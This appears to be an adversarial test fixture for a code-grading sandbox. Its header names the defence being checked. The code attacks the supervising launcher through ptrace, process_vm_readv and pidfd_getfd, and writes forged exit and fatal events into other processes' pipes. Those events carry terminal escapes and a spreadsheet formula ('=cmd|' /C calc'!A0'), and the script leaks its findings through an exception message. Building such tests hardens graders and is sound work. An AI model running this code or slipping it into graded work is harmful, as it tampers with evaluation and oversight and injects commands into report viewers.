# about: goes after the launcher that supervises the student process (under a non-root grader
#   it runs as the student's own uid, in the same pid namespace): traces it, reads its memory,
#   takes its file descriptors, and writes forged launcher events (a clean "worker_exit" and a
#   "fatal" set-up error whose text holds a lone surrogate, terminal escapes and a spreadsheet
#   formula) into every pipe of another process it can open: the report pipe among them would
#   turn its failure into a grader error; leaks what worked through exception messages
# base: blank
# defence: the launcher makes itself non-dumpable (no ptrace, /proc/PID/fd or pidfd_getfd from
#   the same uid); as root the student also has another uid and its own pid namespace; only
#   report events before the sandbox's "setup" event are read as set-up failures
# lacks: FORGED | PTRACED | VMREAD | STOLEN
# --- cell
import ctypes
import json
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
me = int(os.readlink("/proc/self"))


def own_targets():
    """What this process's own descriptors point at (its stdout pipe is no prize)."""
    found = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            found.add(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    return found


class IOV(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


mine = own_targets()
found, pipes = [], []
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        fds = []
    for fd in fds:
        path = f"/proc/{pid}/fd/{fd}"
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if target.startswith("pipe:") and target not in mine:
            try:
                pipes.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                found.append(f"FORGED pipe {pid}/{fd}")
            except OSError:
                pass
    try:
        command = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        command = b""
    argv = command.split(b"\0")
    if b"launcher.py" not in command or argv[0].endswith(b"bwrap"):
        continue  # the launcher is the prize; bubblewrap's init holds nothing of the grader's
    if os.getpid() != me:
        continue  # a pid namespace of its own: pid numbers here name its own processes
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        found.append(f"PTRACED launcher {pid}")
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    buffer = ctypes.create_string_buffer(16)
    local, remote = IOV(ctypes.cast(buffer, ctypes.c_void_p), 16), IOV(0x400000, 16)
    if libc.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        found.append(f"VMREAD launcher {pid}")  # process_vm_readv
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd >= 0:
        for number in range(3, 16):
            got = libc.syscall(438, pidfd, number, 0)  # pidfd_getfd
            if got >= 0:
                found.append(f"STOLEN launcher fd {number}: {os.readlink(f'/proc/self/fd/{got}')}")
        os.close(pidfd)
summary = " | ".join(found) or "reached nothing of the launcher"
forged_exit = json.dumps({"event": "worker_exit", "status": 0, "nested": False,
                          "cpu_seconds": 0.0, "maxrss_kib": 1}) + "\n"
forged_fatal = json.dumps({"event": "fatal", "error": "\udcff =cmd|' /C calc'!A0 "
                           "\x1b[2J\x1b[31mGRADER BROKEN " + summary[:500]}) + "\n"
for pipe in pipes:
    try:
        os.write(pipe, forged_exit.encode() + forged_fatal.encode())
    except OSError:
        pass


def get_sparsity(tensor):
    raise RuntimeError(summary[:900])
